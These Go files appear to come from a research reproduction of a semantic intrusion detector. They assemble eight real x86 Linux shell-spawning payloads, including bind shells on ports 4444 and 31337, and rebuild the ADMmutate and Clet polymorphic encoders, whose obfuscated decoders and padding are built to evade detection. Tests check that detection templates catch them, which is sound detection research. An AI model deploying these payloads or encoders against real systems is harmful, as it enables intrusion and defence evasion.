		env.Set(a0.Reg, 0, false)
		return
	}
	w, _ := regGeom(a0.Reg)
	env.Set(a0.Reg, f(cur, uint(amt))&widthMask(w), true)
}

// shiftStep32 folds only 32-bit destinations (sign/rotate semantics are
// width-dependent); narrower destinations become unknown.
func shiftStep32(env *Env, a0, a1 x86.Operand,
	src func(x86.Operand) (uint32, bool), f func(uint32, uint) uint32) {
	if a0.Kind != x86.KindReg {
		return
	}
	if a0.Reg.Size() != 4 {
		env.Set(a0.Reg, 0, false)
		return
	}
	shiftStep(env, a0, a1, src, f)
}
