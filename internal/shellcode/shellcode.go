// Package shellcode provides the corpus of Linux shell-spawning
// payloads used to reproduce Table 1 of the paper: eight distinct
// remote-exploit payloads, two of which bind the spawned shell to a
// separate network port. All payloads are assembled from scratch with
// the x86 encoder, so they are real IA-32 machine code exercising the
// full disassembler/IR/template pipeline.
package shellcode

import (
	"semnids/internal/x86"
)

// Shellcode is one payload in the corpus.
type Shellcode struct {
	Name        string
	Description string
	Bytes       []byte
	// BindsPort marks payloads that bind the shell to a separate
	// network port (noted separately in Table 1).
	BindsPort bool
}

const (
	binDword = 0x6e69622f // "/bin"
	shDword  = 0x68732f2f // "//sh"
)

func mem8(base x86.Reg) x86.Operand {
	return x86.MemOp(x86.MemRef{Base: base, Size: 1, Scale: 1})
}

// pushBinSh emits the canonical stack construction of "/bin//sh" and
// leaves its address in ebx.
func pushBinSh(a *x86.Asm) {
	a.XorRR(x86.EAX, x86.EAX).
		PushR(x86.EAX).
		PushI(shDword).
		PushI(binDword).
		MovRR(x86.EBX, x86.ESP)
}

// execveAL finishes an execve("/bin//sh", ...) with eax set via mov al.
func execveAL(a *x86.Asm) {
	a.XorRR(x86.ECX, x86.ECX).
		XorRR(x86.EDX, x86.EDX).
		XorRR(x86.EAX, x86.EAX).
		I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0xb)).
		IntN(0x80)
}

// ClassicPush is the textbook 24-byte-style spawner: build "/bin//sh"
// on the stack, null argv/envp, execve via mov al, 0xb.
func ClassicPush() Shellcode {
	a := x86.NewAsm()
	pushBinSh(a)
	execveAL(a)
	return Shellcode{
		Name:        "classic-push",
		Description: "stack-built /bin//sh, execve via mov al,0xb",
		Bytes:       a.MustBytes(),
	}
}

// PushPop loads the syscall number with push 0xb / pop eax — a common
// pattern-evasion trick that defeats 'mov al, 0xb' byte signatures.
func PushPop() Shellcode {
	a := x86.NewAsm()
	a.XorRR(x86.ECX, x86.ECX).
		PushR(x86.ECX).
		PushI(shDword).
		PushI(binDword).
		MovRR(x86.EBX, x86.ESP).
		I(x86.CDQ).
		PushI(0xb).
		PopR(x86.EAX).
		IntN(0x80)
	return Shellcode{
		Name:        "push-pop",
		Description: "syscall number via push/pop, edx zeroed with cdq",
		Bytes:       a.MustBytes(),
	}
}

// JmpCallPop carries "/bin/sh" as literal data and recovers its
// address with the classic jmp/call/pop idiom.
func JmpCallPop() Shellcode {
	a := x86.NewAsm()
	a.JmpShort("data").
		Label("code").
		PopR(x86.EBX).
		XorRR(x86.EAX, x86.EAX).
		I(x86.MOV, x86.MemOp(x86.MemRef{Base: x86.EBX, Disp: 7, Size: 1, Scale: 1}), x86.RegOp(x86.AL)).
		XorRR(x86.ECX, x86.ECX).
		I(x86.CDQ).
		I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0xb)).
		IntN(0x80).
		Label("data").
		Call("code").
		Raw([]byte("/bin/shX")...)
	return Shellcode{
		Name:        "jmp-call-pop",
		Description: "literal /bin/sh string addressed via jmp/call/pop",
		Bytes:       a.MustBytes(),
	}
}

// SetuidExec drops privileges back to root with setreuid(0,0) before
// spawning, as many 2000s-era remote exploits did.
func SetuidExec() Shellcode {
	a := x86.NewAsm()
	a.XorRR(x86.EAX, x86.EAX).
		XorRR(x86.EBX, x86.EBX).
		XorRR(x86.ECX, x86.ECX).
		I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0x46)). // setreuid
		IntN(0x80)
	pushBinSh(a)
	execveAL(a)
	return Shellcode{
		Name:        "setuid-exec",
		Description: "setreuid(0,0) then execve /bin//sh",
		Bytes:       a.MustBytes(),
	}
}

// StackArgv builds a proper argv array on the stack instead of passing
// NULL, exercising a different execve call shape.
func StackArgv() Shellcode {
	a := x86.NewAsm()
	a.XorRR(x86.EAX, x86.EAX).
		PushR(x86.EAX).
		PushI(shDword).
		PushI(binDword).
		MovRR(x86.EBX, x86.ESP).
		PushR(x86.EAX). // argv[1] = NULL
		PushR(x86.EBX). // argv[0] = "/bin//sh"
		MovRR(x86.ECX, x86.ESP).
		I(x86.CDQ).
		I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0xb)).
		IntN(0x80)
	return Shellcode{
		Name:        "stack-argv",
		Description: "argv array built on the stack, execve /bin//sh",
		Bytes:       a.MustBytes(),
	}
}

// Dup2Shell duplicates an inherited socket descriptor onto
// stdin/stdout/stderr before spawning — the post-connection stage of
// connect-back payloads.
func Dup2Shell() Shellcode {
	a := x86.NewAsm()
	a.XorRR(x86.ECX, x86.ECX).
		I(x86.MOV, x86.RegOp(x86.CL), x86.ImmOp(2)).
		Label("dup").
		XorRR(x86.EAX, x86.EAX).
		I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0x3f)). // dup2
		IntN(0x80).
		DecR(x86.ECX).
		JccShort(x86.CondNS, "dup")
	pushBinSh(a)
	execveAL(a)
	return Shellcode{
		Name:        "dup2-shell",
		Description: "dup2 fd 0..2 loop, then execve /bin//sh",
		Bytes:       a.MustBytes(),
	}
}

// socketcall emits int 0x80 with eax=0x66 and ebx=call; ecx must
// already point at the argument array.
func socketcall(a *x86.Asm, call int64) {
	a.XorRR(x86.EAX, x86.EAX).
		I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0x66)).
		XorRR(x86.EBX, x86.EBX).
		I(x86.MOV, x86.RegOp(x86.BL), x86.ImmOp(call)).
		IntN(0x80)
}

// BindShell4444 opens a listening socket on TCP/4444 and spawns the
// shell on the accepted connection: socket, bind, listen, accept,
// dup2, execve.
func BindShell4444() Shellcode {
	a := x86.NewAsm()
	// socket(AF_INET, SOCK_STREAM, 0)
	a.XorRR(x86.ECX, x86.ECX).
		PushR(x86.ECX).
		PushI(1).
		PushI(2).
		MovRR(x86.ECX, x86.ESP)
	socketcall(a, 1) // SYS_SOCKET
	a.MovRR(x86.ESI, x86.EAX)
	// bind(s, {AF_INET, 4444, INADDR_ANY}, 16)
	a.XorRR(x86.EAX, x86.EAX).
		PushR(x86.EAX).
		PushR(x86.EAX).
		PushI(0x5c110002). // port 4444 (0x115c) big-endian, AF_INET
		MovRR(x86.ECX, x86.ESP).
		PushI(0x10).
		PushR(x86.ECX).
		PushR(x86.ESI).
		MovRR(x86.ECX, x86.ESP)
	socketcall(a, 2) // SYS_BIND
	// listen(s, 1)
	a.PushI(1).
		PushR(x86.ESI).
		MovRR(x86.ECX, x86.ESP)
	socketcall(a, 4) // SYS_LISTEN
	// accept(s, 0, 0)
	a.XorRR(x86.EAX, x86.EAX).
		PushR(x86.EAX).
		PushR(x86.EAX).
		PushR(x86.ESI).
		MovRR(x86.ECX, x86.ESP)
	socketcall(a, 5) // SYS_ACCEPT
	a.MovRR(x86.EBX, x86.EAX)
	// dup2 loop over the accepted fd
	a.XorRR(x86.ECX, x86.ECX).
		I(x86.MOV, x86.RegOp(x86.CL), x86.ImmOp(2)).
		Label("dup").
		XorRR(x86.EAX, x86.EAX).
		I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0x3f)).
		IntN(0x80).
		DecR(x86.ECX).
		JccShort(x86.CondNS, "dup")
	pushBinSh(a)
	execveAL(a)
	return Shellcode{
		Name:        "bind-shell-4444",
		Description: "bind shell on TCP/4444: socket/bind/listen/accept/dup2/execve",
		Bytes:       a.MustBytes(),
		BindsPort:   true,
	}
}

// BindShell31337 is a second, differently constructed port-binding
// payload: push/pop syscall loading, a different port, and the
// jmp/call/pop string idiom for /bin/sh.
func BindShell31337() Shellcode {
	a := x86.NewAsm()
	// socket(2,1,0)
	a.XorRR(x86.EDX, x86.EDX).
		PushR(x86.EDX).
		PushI(1).
		PushI(2).
		MovRR(x86.ECX, x86.ESP).
		PushI(0x66).
		PopR(x86.EAX).
		PushI(1).
		PopR(x86.EBX).
		IntN(0x80).
		MovRR(x86.EDI, x86.EAX)
	// bind(s, {AF_INET, 31337}, 16); 31337 = 0x7a69
	a.XorRR(x86.EAX, x86.EAX).
		PushR(x86.EAX).
		PushR(x86.EAX).
		PushI(0x697a0002).
		MovRR(x86.ECX, x86.ESP).
		PushI(0x10).
		PushR(x86.ECX).
		PushR(x86.EDI).
		MovRR(x86.ECX, x86.ESP).
		PushI(0x66).
		PopR(x86.EAX).
		PushI(2).
		PopR(x86.EBX).
		IntN(0x80)
	// listen(s, 5)
	a.PushI(5).
		PushR(x86.EDI).
		MovRR(x86.ECX, x86.ESP).
		PushI(0x66).
		PopR(x86.EAX).
		PushI(4).
		PopR(x86.EBX).
		IntN(0x80)
	// accept(s, 0, 0)
	a.XorRR(x86.EAX, x86.EAX).
		PushR(x86.EAX).
		PushR(x86.EAX).
		PushR(x86.EDI).
		MovRR(x86.ECX, x86.ESP).
		PushI(0x66).
		PopR(x86.EAX).
		PushI(5).
		PopR(x86.EBX).
		IntN(0x80).
		MovRR(x86.EBX, x86.EAX)
	// dup2 + execve with literal string
	a.XorRR(x86.ECX, x86.ECX).
		I(x86.MOV, x86.RegOp(x86.CL), x86.ImmOp(2)).
		Label("dup").
		PushI(0x3f).
		PopR(x86.EAX).
		IntN(0x80).
		DecR(x86.ECX).
		JccShort(x86.CondNS, "dup").
		JmpShort("data").
		Label("spawn").
		PopR(x86.EBX).
		XorRR(x86.EAX, x86.EAX).
		XorRR(x86.ECX, x86.ECX).
		I(x86.CDQ).
		I(x86.MOV, x86.RegOp(x86.AL), x86.ImmOp(0xb)).
		IntN(0x80).
		Label("data").
		Call("spawn").
		Raw([]byte("/bin/sh\x00")...)
	return Shellcode{
		Name:        "bind-shell-31337",
		Description: "bind shell on TCP/31337: push/pop socketcalls, jmp/call/pop string",
		Bytes:       a.MustBytes(),
		BindsPort:   true,
	}
}

// Corpus returns the eight payloads of Table 1 in a stable order.
func Corpus() []Shellcode {
	return []Shellcode{
		ClassicPush(),
		PushPop(),
		JmpCallPop(),
		SetuidExec(),
		StackArgv(),
		Dup2Shell(),
		BindShell4444(),
		BindShell31337(),
	}
}
