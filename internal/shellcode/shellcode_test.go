package shellcode

import (
	"testing"

	"semnids/internal/sem"
)

func detections(t *testing.T, b []byte) map[string]bool {
	t.Helper()
	a := sem.NewAnalyzer(sem.BuiltinTemplates())
	out := make(map[string]bool)
	for _, d := range a.AnalyzeFrame(b) {
		out[d.Template] = true
	}
	return out
}

func TestCorpusSize(t *testing.T) {
	c := Corpus()
	if len(c) != 8 {
		t.Fatalf("corpus has %d payloads, want 8 (Table 1)", len(c))
	}
	binds := 0
	names := make(map[string]bool)
	for _, sc := range c {
		if names[sc.Name] {
			t.Errorf("duplicate name %q", sc.Name)
		}
		names[sc.Name] = true
		if sc.BindsPort {
			binds++
		}
		if len(sc.Bytes) == 0 {
			t.Errorf("%s: empty payload", sc.Name)
		}
		if len(sc.Bytes) > 512 {
			t.Errorf("%s: implausibly large shellcode (%d bytes)", sc.Name, len(sc.Bytes))
		}
	}
	if binds != 2 {
		t.Errorf("corpus has %d port-binding payloads, want 2 (Table 1)", binds)
	}
}

func TestAllSpawnShellsDetected(t *testing.T) {
	for _, sc := range Corpus() {
		ds := detections(t, sc.Bytes)
		if !ds["linux-shell-spawn"] {
			t.Errorf("%s: shell spawn not detected (got %v)", sc.Name, ds)
		}
	}
}

func TestPortBindDetection(t *testing.T) {
	for _, sc := range Corpus() {
		ds := detections(t, sc.Bytes)
		if sc.BindsPort && !ds["port-bind-shell"] {
			t.Errorf("%s: port binding not detected", sc.Name)
		}
		if !sc.BindsPort && ds["port-bind-shell"] {
			t.Errorf("%s: spurious port-bind detection", sc.Name)
		}
	}
}

func TestShellcodesAreDistinct(t *testing.T) {
	c := Corpus()
	for i := range c {
		for j := i + 1; j < len(c); j++ {
			if string(c[i].Bytes) == string(c[j].Bytes) {
				t.Errorf("%s and %s have identical bytes", c[i].Name, c[j].Name)
			}
		}
	}
}

func TestDeterministic(t *testing.T) {
	a := Corpus()
	b := Corpus()
	for i := range a {
		if string(a[i].Bytes) != string(b[i].Bytes) {
			t.Errorf("%s: corpus generation is not deterministic", a[i].Name)
		}
	}
}
