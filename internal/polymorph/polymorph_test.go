package polymorph

import (
	"bytes"
	"testing"

	"semnids/internal/sem"
	"semnids/internal/shellcode"
	"semnids/internal/x86"
)

func detect(tpls []*sem.Template, frame []byte) map[string]bool {
	a := sem.NewAnalyzer(tpls)
	out := make(map[string]bool)
	for _, d := range a.AnalyzeFrame(frame) {
		out[d.Template] = true
	}
	return out
}

func decryptorDetected(ds map[string]bool) bool {
	return ds["xor-decrypt-loop"] || ds["admmutate-alt-decode-loop"]
}

func TestADMmutateDecodable(t *testing.T) {
	// Every generated sample must decode back to the original payload
	// (the engine produces working code, not just noise).
	payload := shellcode.ClassicPush().Bytes
	eng := NewADMmutate(7)
	for i := 0; i < 200; i++ {
		sample, meta, err := eng.Encode(payload)
		if err != nil {
			t.Fatalf("sample %d: %v", i, err)
		}
		dec, err := DecodePayload(sample, meta)
		if err != nil {
			t.Fatalf("sample %d: %v", i, err)
		}
		if !bytes.Equal(dec, payload) {
			t.Fatalf("sample %d (%s/%s): decode mismatch", i, meta.Scheme, meta.Transform)
		}
	}
}

func TestADMmutateFullTemplateSetDetectsAll(t *testing.T) {
	// Table 2 row "ADMmutate", final result: 100/100 with both
	// decoder templates.
	payload := shellcode.ClassicPush().Bytes
	eng := NewADMmutate(20060612)
	tpls := sem.BuiltinTemplates()
	for i := 0; i < 100; i++ {
		sample, meta, err := eng.Encode(payload)
		if err != nil {
			t.Fatal(err)
		}
		if !decryptorDetected(detect(tpls, sample)) {
			t.Errorf("sample %d (%s/%s, ooo sled=%d) missed",
				i, meta.Scheme, meta.Transform, meta.SledLen)
		}
	}
}

func TestADMmutateXorOnlyTemplateSetPartialDetection(t *testing.T) {
	// Table 2 narrative: with only the xor template, approximately
	// 68% of ADMmutate samples are detected (the alternate
	// mov/or/and/not scheme evades it).
	payload := shellcode.ClassicPush().Bytes
	eng := NewADMmutate(20060612)
	tpls := sem.XorOnlyTemplates()
	detected, alt := 0, 0
	for i := 0; i < 100; i++ {
		sample, meta, err := eng.Encode(payload)
		if err != nil {
			t.Fatal(err)
		}
		ds := detect(tpls, sample)
		if meta.Scheme == SchemeXnor {
			alt++
			if ds["xor-decrypt-loop"] {
				t.Errorf("sample %d: xnor scheme matched the xor template", i)
			}
		}
		if decryptorDetected(ds) {
			detected++
		}
	}
	if detected+alt != 100 {
		t.Errorf("detected %d + alt %d != 100: xor-scheme sample missed", detected, alt)
	}
	if detected < 55 || detected > 80 {
		t.Errorf("xor-only detection rate %d%%, expected near the paper's 68%%", detected)
	}
}

func TestADMmutateForcedSchemes(t *testing.T) {
	payload := shellcode.PushPop().Bytes
	for _, scheme := range []Scheme{SchemeXor, SchemeXnor} {
		eng := NewADMmutate(11)
		eng.ForceScheme = &scheme
		for i := 0; i < 25; i++ {
			sample, meta, err := eng.Encode(payload)
			if err != nil {
				t.Fatal(err)
			}
			if meta.Scheme != scheme {
				t.Fatalf("forced scheme ignored")
			}
			ds := detect(sem.BuiltinTemplates(), sample)
			want := "xor-decrypt-loop"
			if scheme == SchemeXnor {
				want = "admmutate-alt-decode-loop"
			}
			if !ds[want] {
				t.Errorf("%v sample %d: %s not detected", scheme, i, want)
			}
		}
	}
}

func TestCletAllDetected(t *testing.T) {
	// Table 2 row "Clet": 100/100 with the xor template alone.
	payload := shellcode.ClassicPush().Bytes
	eng := NewClet(1999)
	tpls := sem.XorOnlyTemplates()
	for i := 0; i < 100; i++ {
		sample, meta, err := eng.Encode(payload)
		if err != nil {
			t.Fatal(err)
		}
		if !detect(tpls, sample)["xor-decrypt-loop"] {
			t.Errorf("clet sample %d (%s sled=%d) missed", i, meta.Transform, meta.SledLen)
		}
	}
}

func TestCletDecodable(t *testing.T) {
	payload := shellcode.JmpCallPop().Bytes
	eng := NewClet(5)
	for i := 0; i < 100; i++ {
		sample, meta, err := eng.Encode(payload)
		if err != nil {
			t.Fatal(err)
		}
		dec, err := DecodePayload(sample, meta)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(dec, payload) {
			t.Fatalf("clet sample %d: decode mismatch", i)
		}
	}
}

func TestCletSpectrumPadding(t *testing.T) {
	payload := shellcode.ClassicPush().Bytes
	eng := NewClet(3)
	eng.PadLen = 128
	sample, meta, err := eng.Encode(payload)
	if err != nil {
		t.Fatal(err)
	}
	pad := sample[meta.PayloadOff+meta.PayloadLen:]
	if len(pad) != 128 {
		t.Fatalf("pad length %d, want 128", len(pad))
	}
	printable := 0
	for _, b := range pad {
		if b >= 0x20 && b < 0x7f {
			printable++
		}
	}
	if printable != len(pad) {
		t.Errorf("spectrum padding contains %d non-printable bytes", len(pad)-printable)
	}
}

func TestSamplesAreDistinct(t *testing.T) {
	// Polymorphism: consecutive samples of the same payload differ.
	payload := shellcode.ClassicPush().Bytes
	eng := NewADMmutate(99)
	a, _, err := eng.Encode(payload)
	if err != nil {
		t.Fatal(err)
	}
	b, _, err := eng.Encode(payload)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(a, b) {
		t.Error("two ADMmutate samples are byte-identical")
	}
}

func TestSledIsNopLike(t *testing.T) {
	// Every sled byte must decode as a single harmless instruction.
	payload := []byte{0x90}
	eng := NewADMmutate(13)
	for i := 0; i < 20; i++ {
		sample, meta, err := eng.Encode(payload)
		if err != nil {
			t.Fatal(err)
		}
		sled := sample[:meta.SledLen]
		for off := 0; off < len(sled); off++ {
			in, err := x86.Decode(sled, off)
			if err != nil {
				t.Fatalf("sled byte %#x at %d does not decode: %v", sled[off], off, err)
			}
			if in.Len != 1 {
				t.Fatalf("sled instruction at %d is %d bytes, want 1", off, in.Len)
			}
		}
	}
}

func TestEngineErrors(t *testing.T) {
	eng := NewADMmutate(1)
	if _, _, err := eng.Encode(nil); err == nil {
		t.Error("empty payload should fail")
	}
	if _, _, err := eng.Encode(make([]byte, 1<<17)); err == nil {
		t.Error("oversized payload should fail")
	}
	clet := NewClet(1)
	if _, _, err := clet.Encode(nil); err == nil {
		t.Error("clet empty payload should fail")
	}
}

func TestEmbeddedShellcodeStillDetected(t *testing.T) {
	// After decoding is modeled, the *encoded* sample must not reveal
	// the plaintext shell-spawn behavior, but the decryptor template
	// must fire: the layered defense the paper describes.
	payload := shellcode.ClassicPush().Bytes
	eng := NewADMmutate(21)
	sample, _, err := eng.Encode(payload)
	if err != nil {
		t.Fatal(err)
	}
	ds := detect(sem.BuiltinTemplates(), sample)
	if !decryptorDetected(ds) {
		t.Error("decryptor not detected on encoded sample")
	}
}
