// Package polymorph implements polymorphic shellcode generation
// engines equivalent in behavior to the two toolkits evaluated in the
// paper: ADMmutate (K2) and the Clet engine. Both wrap a cleartext
// payload in (a) a variant NOP-like sled, (b) an obfuscated decoder
// built with equivalent-instruction substitution, junk insertion,
// register reassignment and — for ADMmutate — out-of-order code
// sequencing, and (c) the encoded payload.
//
// ADMmutate additionally selects between two decoding schemes: the
// classic XOR loop and an alternate scheme composed of mov/or/and/not
// operations on a memory location and register pair (an XNOR cipher).
// The paper discovered the second scheme by inspecting missed samples,
// which is what produced the 68% → 100% step in Table 2.
package polymorph

import (
	"fmt"
	"math/rand"

	"semnids/internal/x86"
)

// Scheme identifies the decoding cipher used by a generated sample.
type Scheme int

const (
	// SchemeXor decodes with `xor [ptr], key`.
	SchemeXor Scheme = iota
	// SchemeXnor decodes with the mov/or/and/not XNOR construction.
	SchemeXnor
)

func (s Scheme) String() string {
	if s == SchemeXnor {
		return "xnor(mov/or/and/not)"
	}
	return "xor"
}

// Meta describes a generated sample so tests can verify that decoding
// the payload region reproduces the original payload.
type Meta struct {
	Scheme     Scheme
	Key        byte
	Delta      byte // for add/sub substitution of the xor scheme
	Transform  string
	SledLen    int
	PayloadOff int
	PayloadLen int
}

// scratch register families available to junk and key registers: every
// family except ESP (stack discipline) is a candidate; the generator
// removes families reserved for the pointer and counter.
var famPool = []x86.Reg{x86.EAX, x86.EBX, x86.ECX, x86.EDX, x86.ESI, x86.EDI, x86.EBP}

// low8 returns the low 8-bit register of a family (EBP/ESI/EDI have no
// 8-bit form in our model; callers must not request them).
func low8(fam x86.Reg) x86.Reg {
	switch fam {
	case x86.EAX:
		return x86.AL
	case x86.EBX:
		return x86.BL
	case x86.ECX:
		return x86.CL
	case x86.EDX:
		return x86.DL
	}
	panic(fmt.Sprintf("no low-8 register for %v", fam))
}

func mem8(base x86.Reg) x86.Operand {
	return x86.MemOp(x86.MemRef{Base: base, Size: 1, Scale: 1})
}

// sledPool is the set of single-byte NOP-like opcodes ADMmutate-class
// engines draw from: each executes harmlessly regardless of sled entry
// point.
var sledPool = []byte{
	0x90,                   // nop
	0x40, 0x41, 0x42, 0x43, // inc eax..ebx
	0x45, 0x46, 0x47, // inc ebp, esi, edi
	0x48, 0x49, 0x4a, 0x4b, // dec eax..ebx
	0x4d, 0x4e, 0x4f, // dec ebp, esi, edi
	0xf8, 0xf9, 0xf5, // clc, stc, cmc
	0xfc,       // cld
	0x98, 0x99, // cwde, cdq
	0x27, 0x2f, 0x37, 0x3f, // daa, das, aaa, aas
	0xd6, // salc
	0x9e, // sahf
}

// genSled emits n NOP-like bytes.
func genSled(rng *rand.Rand, a *x86.Asm, n int) {
	for i := 0; i < n; i++ {
		a.Raw(sledPool[rng.Intn(len(sledPool))])
	}
}

// junkCtx tracks which register families junk instructions may touch.
type junkCtx struct {
	rng     *rand.Rand
	scratch []x86.Reg // families junk may freely clobber
}

// emitJunk inserts up to max junk instructions that do not disturb the
// decoder's live registers.
func (j *junkCtx) emitJunk(a *x86.Asm, max int) {
	if len(j.scratch) == 0 || max <= 0 {
		return
	}
	n := j.rng.Intn(max + 1)
	for i := 0; i < n; i++ {
		r := j.scratch[j.rng.Intn(len(j.scratch))]
		switch j.rng.Intn(8) {
		case 0:
			a.Nop()
		case 1:
			a.MovRI(r, int64(int32(j.rng.Uint32())))
		case 2:
			a.IncR(r)
		case 3:
			a.DecR(r)
		case 4:
			a.I(x86.TEST, x86.RegOp(r), x86.RegOp(r))
		case 5:
			a.I(x86.CMP, x86.RegOp(r), x86.ImmOp(int64(j.rng.Intn(256))))
		case 6:
			a.PushR(r).PopR(r)
		case 7:
			switch j.rng.Intn(4) {
			case 0:
				a.I(x86.CLD)
			case 1:
				a.I(x86.CLC)
			case 2:
				a.I(x86.STC)
			case 3:
				a.I(x86.CMC)
			}
		}
	}
}

// pick removes and returns a random element of *s.
func pick(rng *rand.Rand, s *[]x86.Reg) x86.Reg {
	i := rng.Intn(len(*s))
	r := (*s)[i]
	*s = append((*s)[:i], (*s)[i+1:]...)
	return r
}

// remove deletes r from s, returning the shortened slice.
func remove(s []x86.Reg, r x86.Reg) []x86.Reg {
	out := s[:0]
	for _, x := range s {
		if x != r {
			out = append(out, x)
		}
	}
	return out
}
