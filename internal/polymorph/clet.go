package polymorph

import (
	"errors"
	"fmt"
	"math/rand"

	"semnids/internal/x86"
)

// Clet reconstructs the Clet polymorphic engine (Phrack 61): an
// xor-based decoder obscured with substitution and junk, plus
// "spectrum analysis" defeating padding — trailing bytes drawn from a
// distribution resembling normal (English/HTTP) traffic so that
// byte-frequency anomaly detectors score the packet as benign.
//
// Clet always decodes with an xor loop, which is why the paper's xor
// decryption template matched all 100 generated instances (Table 2).
type Clet struct {
	rng *rand.Rand

	// MaxSled bounds the NOP-like sled length.
	MaxSled int

	// PadLen is the number of spectrum-padding bytes appended
	// (0 disables padding).
	PadLen int
}

// NewClet returns a Clet-style engine seeded for reproducibility.
func NewClet(seed int64) *Clet {
	return &Clet{
		rng:     rand.New(rand.NewSource(seed)),
		MaxSled: 32,
		PadLen:  64,
	}
}

// spectrumAlphabet approximates the byte distribution of English web
// traffic: letters weighted by frequency, plus space and punctuation.
var spectrumAlphabet = []byte("etaoinshrdlucmfwypvbgkjqxz ETAOIN.,;:/-0123456789")

// Encode produces one polymorphic sample wrapping payload.
func (c *Clet) Encode(payload []byte) ([]byte, Meta, error) {
	if len(payload) == 0 {
		return nil, Meta{}, errors.New("polymorph: empty payload")
	}
	rng := c.rng

	ptrPool := []x86.Reg{x86.ESI, x86.EDI, x86.EBX, x86.EDX}
	ptr := ptrPool[rng.Intn(len(ptrPool))]
	useLoop := rng.Intn(2) == 0
	cnt := x86.ECX
	if !useLoop {
		cntPool := remove([]x86.Reg{x86.ECX, x86.EAX, x86.EDX}, ptr)
		cnt = cntPool[rng.Intn(len(cntPool))]
	}
	keyFams := remove(remove([]x86.Reg{x86.EAX, x86.EBX, x86.ECX, x86.EDX}, ptr), cnt)

	key := byte(rng.Intn(255) + 1)
	useKeyReg := rng.Intn(2) == 0
	var keyFam x86.Reg = x86.RegNone
	if useKeyReg {
		keyFam = keyFams[rng.Intn(len(keyFams))]
	}

	scratch := famPool
	for _, used := range []x86.Reg{ptr, cnt, keyFam} {
		scratch = remove(scratch, used)
	}
	junk := &junkCtx{rng: rng, scratch: scratch}

	sledLen := 4 + rng.Intn(c.MaxSled-3)
	a := x86.NewAsm()
	genSled(rng, a, sledLen)

	a.Jmp("call").
		Label("decoder").
		PopR(ptr).PushR(ptr)
	junk.emitJunk(a, 2)
	emitCounter(rng, a, cnt, int64(len(payload)))
	if useKeyReg {
		junk.emitJunk(a, 1)
		emitKey(rng, a, keyFam, key)
	}
	a.Label("loop")
	if useKeyReg {
		a.I(x86.XOR, mem8(ptr), x86.RegOp(low8(keyFam)))
	} else {
		a.I(x86.XOR, mem8(ptr), x86.ImmOp(int64(int8(key))))
	}
	junk.emitJunk(a, 2)
	emitAdvance(rng, a, ptr)
	junk.emitJunk(a, 1)
	if useLoop {
		a.Loop("loop")
	} else {
		a.DecR(cnt).JccShort(x86.CondNE, "loop")
	}
	a.I(x86.RET).
		Label("call").Call("decoder")

	head, err := a.Bytes()
	if err != nil {
		return nil, Meta{}, fmt.Errorf("polymorph: %w", err)
	}
	out := make([]byte, 0, len(head)+len(payload)+c.PadLen)
	out = append(out, head...)
	for _, b := range payload {
		out = append(out, b^key)
	}
	// Spectrum padding: the decoder's counter covers only the payload,
	// so trailing bytes never execute but reshape the byte histogram.
	for i := 0; i < c.PadLen; i++ {
		out = append(out, spectrumAlphabet[rng.Intn(len(spectrumAlphabet))])
	}
	meta := Meta{
		Scheme:     SchemeXor,
		Key:        key,
		Transform:  "xor-imm",
		SledLen:    sledLen,
		PayloadOff: len(head),
		PayloadLen: len(payload),
	}
	if useKeyReg {
		meta.Transform = "xor-reg"
	}
	return out, meta, nil
}
