package polymorph

import (
	"errors"
	"fmt"
	"math/rand"

	"semnids/internal/x86"
)

// ADMmutate is our reconstruction of K2's ADMmutate 0.8.4 engine: it
// wraps a payload in a variant NOP-like sled and an obfuscated decoder
// employing junk insertion, equivalent-instruction substitution,
// register reassignment and out-of-order code sequencing, choosing
// between the classic XOR loop and the alternate mov/or/and/not
// decoding scheme.
type ADMmutate struct {
	rng *rand.Rand

	// AltProb is the probability of selecting the alternate
	// (mov/or/and/not) decoding scheme. The default 0.32 reproduces
	// the paper's Table 2: an xor-only template set detected 68 of
	// 100 samples.
	AltProb float64

	// ForceScheme pins the scheme for targeted tests (nil = random).
	ForceScheme *Scheme

	// MaxSled bounds the sled length (minimum 8).
	MaxSled int

	// OutOfOrder enables block shuffling with jmp chains.
	OutOfOrder bool
}

// NewADMmutate returns an engine seeded for reproducible generation.
func NewADMmutate(seed int64) *ADMmutate {
	return &ADMmutate{
		rng:        rand.New(rand.NewSource(seed)),
		AltProb:    0.32,
		MaxSled:    48,
		OutOfOrder: true,
	}
}

// Encode produces one polymorphic sample wrapping payload.
func (m *ADMmutate) Encode(payload []byte) ([]byte, Meta, error) {
	if len(payload) == 0 {
		return nil, Meta{}, errors.New("polymorph: empty payload")
	}
	if len(payload) > 0xffff {
		return nil, Meta{}, errors.New("polymorph: payload too large")
	}
	scheme := SchemeXor
	if m.ForceScheme != nil {
		scheme = *m.ForceScheme
	} else if m.rng.Float64() < m.AltProb {
		scheme = SchemeXnor
	}
	switch scheme {
	case SchemeXnor:
		return m.encodeXnor(payload)
	default:
		return m.encodeXor(payload)
	}
}

// block is a unit of decoder code for out-of-order emission.
type block struct {
	label string
	emit  func(a *x86.Asm)
}

// emitBlocks writes blocks in a shuffled physical order, chaining the
// logical order with near jmps. Control enters through the first
// block's label (the decoder is reached via `call <label>`), so no
// entry jump is needed.
func emitBlocks(rng *rand.Rand, a *x86.Asm, blocks []block, shuffle bool) {
	order := make([]int, len(blocks))
	for i := range order {
		order[i] = i
	}
	if shuffle && len(blocks) > 2 {
		rng.Shuffle(len(order), func(i, j int) { order[i], order[j] = order[j], order[i] })
	}
	for _, bi := range order {
		b := blocks[bi]
		a.Label(b.label)
		b.emit(a)
		if bi+1 < len(blocks) {
			a.Jmp(blocks[bi+1].label)
		}
	}
}

// emitCounter loads count into reg using a randomly chosen equivalent
// construction.
func emitCounter(rng *rand.Rand, a *x86.Asm, reg x86.Reg, count int64) {
	switch rng.Intn(4) {
	case 0:
		a.MovRI(reg, count)
	case 1:
		a.XorRR(reg, reg).AddRI(reg, count)
	case 2:
		a.PushI(count).PopR(reg)
	case 3:
		mask := int64(int32(rng.Uint32()))
		a.MovRI(reg, count^mask).I(x86.XOR, x86.RegOp(reg), x86.ImmOp(mask))
	}
